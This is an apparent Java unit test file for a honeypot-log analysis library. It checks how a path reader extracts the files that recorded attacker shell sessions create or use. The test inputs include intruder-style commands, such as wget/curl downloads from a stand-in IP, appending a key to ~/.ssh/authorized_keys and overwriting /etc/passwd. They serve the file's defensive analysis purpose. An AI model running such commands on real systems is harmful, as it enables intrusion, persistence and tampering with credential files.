package io.github.cowriekit.analysis.internal.paths;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.Upload;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class PathReaderTest {
    private final PathReader reader = new PathReader();

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '`',
            value = {
                "echo x > /opt/notes                  => /opt/notes",
                "echo x>>/opt/notes                   => /opt/notes",
                "echo 'a > b' > \"/opt/notes\"        => /opt/notes",
                "id 2>/opt/errors 1>/opt/out          => /opt/errors /opt/out",
                "cat &>/opt/out                       => /opt/out",
                "> .nippon; ls                        => /root/.nippon",
                "cd /opt; touch a b                   => /opt/a /opt/b",
                "cd /opt && cd ../srv/./x && touch a  => /srv/x/a",
                "cd /opt; cd; touch a                 => /root/a",
                "mkdir -p ~/.x/y                      => /root/.x/y",
                "mkdir -p /opt/../../../a//b          => /a/b",
                "cp /bin/ls /opt/my-ls                => /opt/my-ls",
                "mv a b /srv/x                        => /srv/x",
                "sudo /bin/cp a c                     => /root/c",
                "wget http://192.0.2.1/a -O /opt/a    => /opt/a",
                "wget -qO /opt/a http://192.0.2.1/a   => /opt/a",
                "wget -O/opt/a http://192.0.2.1/a     => /opt/a",
                "wget --output-document=/opt/a u      => /opt/a",
                "wget --output-document /opt/a u      => /opt/a",
                "curl -so /opt/a http://192.0.2.1/a   => /opt/a",
                "curl --output /opt/a u               => /opt/a",
                "dd if=/opt/b of=/opt/a               => /opt/a",
                "uname -a | tee /opt/a              => /opt/a",
            })
    void findsWhatASessionMakes(String line, String made) {
        assertThat(reader.read(ran(line)).made()).containsExactlyInAnyOrder(made.split(" "));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "echo x > /tmp",
                "mkdir -p ~/.ssh /root",
                "echo k >> ~/.ssh/authorized_keys",
                "echo x > /etc/passwd; echo y >/etc/hosts.deny",
                "id > /dev/null 2>&1",
                "cp /opt/a /usr/bin/top",
                "cp a /proc/self/x",
                "wget -qO- http://192.0.2.1/a",
                "wget -O - http://192.0.2.1/a",
                "wget -O",
                "echo x > $HOME/a",
                "touch /opt/*",
                "touch `id`",
                "echo 'cat > /opt/a'",
                "echo -> b/../../../..",
                "mv a",
                "cat /opt/a",
            })
    void doesNotTakeForMadeWhatEverySystemHasOrNobodyNamed(String line) {
        assertThat(reader.read(ran(line)).made()).isEmpty();
    }

    @Test
    void findsWhatASessionUses() {
        SessionPaths paths = reader.read(ran("cd /var/tmp/.d", "./run --fast out.log", "sh '/opt/a b' /opt/c", "ls"));

        assertThat(paths.made()).isEmpty();
        assertThat(paths.used())
                .containsExactlyInAnyOrder(
                        "/var", "/var/tmp", "/var/tmp/.d", "/var/tmp/.d/run", "/var/tmp/.d/out.log", "/opt", "/opt/c");
    }

    @Test
    void usesTheFolderOfWhatItMakesButNotWhatItMakes() {
        SessionPaths paths = reader.read(ran("touch /opt/x/a; chmod +x /opt/x/a; /opt/x/a"));

        assertThat(paths.used()).contains("/opt/x").doesNotContain("/opt/x/a");
    }

    @Test
    void takesFilesFromDownloadsAndUploads() {
        Session session = root().downloads(List.of(
                        Download.builder(FileOrigin.URL).destination("/opt/a").build(),
                        Download.builder(FileOrigin.STDIN).build(),
                        Download.builder(FileOrigin.URL)
                                .destination("/opt/missed")
                                .failed(true)
                                .build()))
                .uploads(List.of(
                        Upload.builder(FileOrigin.SFTP).filename("b").build(),
                        Upload.builder(FileOrigin.SCP)
                                .filename("c")
                                .destination("/srv/c")
                                .build()))
                .build();

        assertThat(reader.read(session).made()).containsExactlyInAnyOrder("/opt/a", "/root/b", "/srv/c");
    }

    @Test
    void startsInTheHomeOfTheUser() {
        Session session = root().logins(
                        List.of(Login.builder().username("phil").success(true).build()))
                .commands(List.of(new Command(null, "touch a ~/b; mkdir ~", false, null)))
                .build();

        assertThat(reader.read(session).made()).containsExactlyInAnyOrder("/home/phil/a", "/home/phil/b");
    }

    @Test
    void readsNoLineOfAnotherProgram() {
        Session session = root().commands(List.of(new Command(null, "touch /opt/a", false, "sh")))
                .build();

        assertThat(reader.read(session)).isEqualTo(new SessionPaths(Set.of(), Set.of()));
    }

    @Test
    void staysSmall() {
        List<String> lines = new ArrayList<>(Collections.nCopies(999, "ls"));
        lines.add("touch /opt/last");
        lines.add("touch /opt/beyond");
        StringBuilder many = new StringBuilder("touch");
        for (int i = 0; i < 100; i++) {
            many.append(" /opt/").append(i);
        }

        assertThat(reader.read(ran(lines.toArray(String[]::new))).made()).containsExactly("/opt/last");
        assertThat(reader.read(ran(many.toString())).made()).hasSize(50);
        assertThat(reader.read(ran("touch /opt/a " + "x".repeat(2_000))).made()).isEmpty();
        assertThat(reader.read(ran("touch /opt/" + "x".repeat(300))).made()).isEmpty();
        assertThat(reader.read(root().downloads(List.of(Download.builder(FileOrigin.URL)
                                .destination("/opt/".repeat(100_000))
                                .build()))
                        .build()))
                .isEqualTo(new SessionPaths(Set.of(), Set.of()));
        assertThat(reader.read(ran("touch " + "a/".repeat(90) + "b")).used()).hasSizeLessThan(100);
        String deep = "cd " + "a/".repeat(90);
        assertThat(reader.read(ran(deep, deep, deep, "touch b")).made())
                .allSatisfy(path -> assertThat(path).hasSizeLessThanOrEqualTo(400));
        String[] folders = new String[999];
        Arrays.setAll(folders, i -> "cat /opt/" + i + "/a");
        assertThat(reader.read(ran(folders)).used()).hasSize(500);
    }

    private static Session ran(String... lines) {
        return root().commands(Arrays.stream(lines)
                        .map(line -> new Command(null, line, false, null))
                        .toList())
                .build();
    }

    private static SessionBuilder root() {
        return Session.builder("fd5ac84ee8f9", SessionEnd.CLOSED)
                .logins(List.of(Login.builder().username("root").success(true).build()));
    }
}
